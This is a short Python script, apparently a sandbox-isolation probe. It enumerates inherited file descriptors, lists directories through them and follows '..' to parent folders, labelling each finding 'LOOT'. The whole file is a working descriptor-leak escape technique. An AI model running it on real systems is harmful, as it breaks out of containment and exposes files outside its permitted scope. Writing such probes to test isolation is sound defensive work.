"""Every open descriptor is tried: read, listed, followed to the folder above."""

import os
import stat

_known = {0, 1, 2}
for _fd in range(3, 256):
    try:
        _mode = os.fstat(_fd).st_mode
    except OSError:
        continue
    if stat.S_ISSOCK(_mode):
        continue
    print("LOOT: descriptor", _fd, oct(_mode))
for _fd in range(256):
    try:
        print("LOOT: a folder is open:", os.listdir(_fd))
    except (OSError, TypeError):
        pass
    try:
        _above = os.open("..", os.O_RDONLY, dir_fd=_fd)
        print("LOOT: the folder above:", os.listdir(_above))
    except (OSError, TypeError):
        pass
